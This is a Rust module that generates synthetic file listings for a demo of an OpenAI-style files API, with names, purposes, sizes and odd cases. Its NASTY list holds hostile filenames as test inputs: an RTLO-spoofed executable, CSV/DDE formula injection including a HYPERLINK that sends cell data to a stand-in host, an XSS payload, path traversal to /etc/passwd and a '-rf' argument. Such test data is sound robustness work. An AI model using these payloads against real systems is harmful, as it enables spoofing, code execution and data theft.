//! Files as they are found in real accounts: uploaded by programs under one name again and again,
//! left behind by assistants, and now and then with a name that nobody should trust.

use super::{ENOUGH_FOR_ODD_CASES, PAST, date};
use crate::openai::file::{File, FileStatus};
use crate::openai::id::FileId;
use crate::openai::purpose::Purpose;
use crate::transport::demo::chance::Chance;
use crate::transport::demo::content::{Content, METRICS_LINE};
use crate::transport::demo::files::Kept;

/// 2026-08-26: the Assistants API was shut down; its files stayed.
const ASSISTANTS_END: u64 = 1_787_702_400;

/// Names that programs give to every upload, with the bytes of the file that was uploaded again and again.
const REPEATED: &[(&str, u64)] = &[
    ("upload.pdf", 184_233),
    ("upload.pdf", 184_233),
    ("upload.pdf", 91_402),
    ("document.pdf", 402_118),
    ("file.txt", 2_310),
    ("context.txt", 14_882),
    ("knowledge.md", 38_115),
    ("data.csv", 1_204_661),
    ("Untitled.docx", 22_871),
    ("blob", 66_012),
];

/// Names that try to be more than names.
const NASTY: &[&str] = &[
    "invoice\u{202e}fdp.exe",
    "=HYPERLINK(\"https://example.invalid/?\"&A1,\"Open\")",
    "<img src=x onerror=alert(document.domain)>.txt",
    "line\nbreak\tand\u{7}bell.txt",
    "../../etc/passwd",
    "\u{feff}\u{200b}\u{200b}.md",
    "-rf",
    "",
    "  two  spaces  .pdf",
    "r\u{e9}sum\u{e9} \u{2014} \u{5c65}\u{6b74}\u{66f8} \u{1f9fe}.pdf",
    "@SUM(1+9)*cmd|' /C calc'!A0.csv",
    "\"quoted\", with, commas.csv",
];

const WORDS: &[&str] = &[
    "support",
    "onboarding",
    "legal",
    "sales",
    "pricing",
    "security",
    "travel",
    "warranty",
    "logistics",
    "payroll",
    "brand",
    "research",
    "kitchen",
    "fleet",
];

/// So many files of two years, in no order, added to those that are there.
pub fn files(chance: &mut Chance, now: u64, count: usize, to: &mut Vec<Kept>) {
    to.reserve(count);
    for index in 0..count {
        let mut created = now.saturating_sub(1 + chance.below(PAST));
        let purpose = purpose(chance, created);
        if purpose == Purpose::Evals {
            // Evaluations run at night.
            created = created / 86_400 * 86_400 + 3 * 3_600;
        }
        let (name, bytes, content) = match NASTY.get(index) {
            Some(name) if count >= ENOUGH_FOR_ODD_CASES => {
                ((*name).to_owned(), chance.size(9_000, 1.5), Content::Prose)
            }
            _ => named(chance, &purpose, created),
        };
        let mut file = File {
            id: FileId::from(chance.file_id()),
            bytes: Some(bytes),
            created_at: Some(created),
            expires_at: None,
            filename: Some(name),
            purpose: Some(purpose),
            status: Some(FileStatus::Processed),
            status_details: None,
        };
        odd_case(chance, now, &mut file);
        to.push(Kept { file, content, stores: Vec::new() });
    }
    if count >= ENOUGH_FOR_ODD_CASES {
        let long = "a-very-long-name-that-goes-on-".repeat(9) + ".pdf";
        if let Some(kept) = to.iter_mut().rev().nth(1) {
            kept.file.filename = Some(long);
        }
        if let Some(kept) = to.last_mut()
            && kept.file.purpose.as_ref().and_then(Purpose::downloadable) != Some(true)
        {
            kept.file.bytes = None;
        }
    }
}

fn purpose(chance: &mut Chance, created: u64) -> Purpose {
    match chance.below(100) {
        0..48 if created < ASSISTANTS_END => Purpose::Assistants,
        48..53 if created < ASSISTANTS_END => Purpose::AssistantsOutput,
        0..74 => Purpose::UserData,
        74..82 => Purpose::Vision,
        82..90 => Purpose::FineTune,
        90..93 => Purpose::FineTuneResults,
        _ => Purpose::Evals,
    }
}

fn odd_case(chance: &mut Chance, now: u64, file: &mut File) {
    let created = file.created_at.unwrap_or(now);
    match (&file.purpose, chance.below(100)) {
        (Some(Purpose::UserData), 0..6) => {
            // Only what has not expired yet is still there.
            let lives = 86_400 * (1 + chance.below(30));
            file.expires_at = Some(created + lives).filter(|time| *time > now);
        }
        (Some(Purpose::FineTune), 0..5) => {
            file.status = Some(FileStatus::Error);
            file.status_details = Some("The file is not valid JSONL: line 1 is not an object.".to_owned());
        }
        (_, 99) => file.status = Some(FileStatus::Uploaded),
        _ => {}
    }
}

/// A name that goes with the purpose, a size that goes with the name.
fn named(chance: &mut Chance, purpose: &Purpose, created: u64) -> (String, u64, Content) {
    let (year, month, day) = date(created);
    let day = format!("{year}-{month:02}-{day:02}");
    let word = chance.word(WORDS);
    let number = 1 + chance.below(40);
    let name = match purpose {
        Purpose::FineTuneResults => {
            let bytes = METRICS_LINE * chance.size(300, 1.0);
            return ("step_metrics.csv".to_owned(), bytes, Content::Metrics);
        }
        Purpose::FineTune => format!("train-{word}-v{number}.jsonl"),
        Purpose::Evals => format!("nightly-eval-{day}.jsonl"),
        Purpose::AssistantsOutput => {
            ["plot.png", "summary.csv", "cleaned_data.csv", "chart_1.png"][number as usize % 4].to_owned()
        }
        Purpose::Vision if number < 20 => format!("screenshot-{day}-{number}.png"),
        Purpose::Vision => format!("IMG_{:04}.jpeg", chance.below(10_000)),
        _ if chance.hits(0.22) => {
            let (name, bytes) = chance.pick(REPEATED).copied().unwrap_or_default();
            return (name.to_owned(), bytes, Content::Prose);
        }
        _ => match chance.below(12) {
            0 | 1 => format!("invoice-{year}-{:04}.pdf", chance.below(10_000)),
            2 => format!("contract_{word}_{number:02}.docx"),
            3 => format!("{word}-handbook-v{number}.pdf"),
            4 => format!("meeting-notes-{day}.md"),
            5 => format!("Q{} {year} {word} review.pptx", month.div_ceil(3)),
            6 => format!("{word}_export_{day}.csv"),
            7 => format!("{:08x}.txt", chance.draw() as u32),
            8 => format!("ticket-{}.html", 10_000 + chance.below(60_000)),
            9 => format!("{word}.json"),
            10 => format!("Scan {day} ({number}).pdf"),
            _ => format!("{word}-{number}.xlsx"),
        },
    };
    let ending = name.rsplit_once('.').map(|(_, ending)| ending).unwrap_or_default();
    let (middle, spread) = match ending {
        "pdf" => (240_000, 1.6),
        "pptx" => (1_400_000, 1.2),
        "docx" | "xlsx" => (60_000, 1.2),
        "csv" => (90_000, 2.0),
        "png" => (180_000, 1.2),
        "jpeg" => (1_100_000, 0.8),
        "jsonl" => (400_000, 2.2),
        _ => (7_000, 1.4),
    };
    (name, chance.size(middle, spread), Content::Prose)
}
